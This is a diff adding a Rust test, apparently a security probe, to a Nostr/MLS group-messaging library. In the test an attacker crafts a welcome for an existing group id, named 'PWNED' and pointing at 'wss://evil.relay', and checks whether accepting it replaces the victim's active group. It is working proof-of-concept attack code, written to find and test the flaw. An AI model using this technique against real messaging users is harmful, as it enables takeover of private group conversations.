@@ -136,6 +136,43 @@ fn probe_c16_welcome_overwrites_active_group() {
 }
 
 #[test]
+fn probe_c16_accept_replaces_active_group() {
+    use openmls::prelude::*;
+    use tls_codec::Serialize as _;
+    let (alice, bob, ak, bob_keys, gid) = two_party();
+    let kp_event = create_key_package_event(&bob, &bob_keys);
+    let mallory = create_test_mdk();
+    let mk = Keys::generate();
+    let (cred, signer) = mallory.generate_credential_with_key(&mk.public_key()).unwrap();
+    let relays = vec![nostr::RelayUrl::parse("wss://evil.relay").unwrap()];
+    let gd = crate::extension::NostrGroupDataExtension::new("PWNED", "x", vec![mk.public_key()], relays.clone(), None, None, None, None);
+    let ext = Extension::Unknown(gd.extension_type(), UnknownExtension(gd.as_raw().tls_serialize_detached().unwrap()));
+    let exts = Extensions::from_vec(vec![ext, mallory.required_capabilities_extension()]).unwrap();
+    let cfg = MlsGroupCreateConfig::builder()
+        .ciphersuite(mallory.ciphersuite)
+        .use_ratchet_tree_extension(true)
+        .capabilities(mallory.capabilities())
+        .with_group_context_extensions(exts)
+        .build();
+    let mut g = MlsGroup::new_with_group_id(&mallory.provider, &signer, &cfg, openmls::group::GroupId::from_slice(gid.as_slice()), cred).unwrap();
+    let kp = mallory.parse_key_package(&kp_event).unwrap();
+    let (_c, welcome_out, _gi) = g.add_members(&mallory.provider, &signer, &[kp]).unwrap();
+    g.merge_pending_commit(&mallory.provider).unwrap();
+    let rumors = mallory.build_welcome_rumors_for_key_packages(&g, welcome_out.tls_serialize_detached().unwrap(), vec![kp_event], &relays).unwrap().unwrap();
+    let w = bob.process_welcome(&EventId::from_slice(&[8u8; 32]).unwrap(), &rumors[0]).unwrap();
+    let mid = bob.get_group(&gid).unwrap().unwrap();
+    println!("C16b after process_welcome: state={:?} name={:?}", mid.state, mid.name);
+    let members_before = bob.get_members(&gid).unwrap();
+    let r = bob.accept_welcome(&w);
+    println!("C16b accept_welcome of the crafted invitation -> {:?}", r.as_ref().map_err(|e| e.to_string()));
+    let after = bob.get_group(&gid).unwrap().unwrap();
+    let members_after = bob.get_members(&gid).unwrap();
+    println!("C16b after accept: state={:?} name={:?} members_changed={} alice_still_member={}", after.state, after.name, members_before != members_after, members_after.contains(&ak.public_key()));
+    let m = alice.create_message(&gid, create_test_rumor(&ak, "hello after accept")).unwrap();
+    println!("C16b bob processes alice msg after accept -> {:?}", bob.process_message(&m).map(|_| "ok").map_err(|e| e.to_string()));
+}
+
+#[test]
 fn probe_c01_own_commit_merged_immediately_then_better_arrives() {
     use crate::groups::NostrGroupDataUpdate;
     // Alice(admin), Bob(admin), Carol
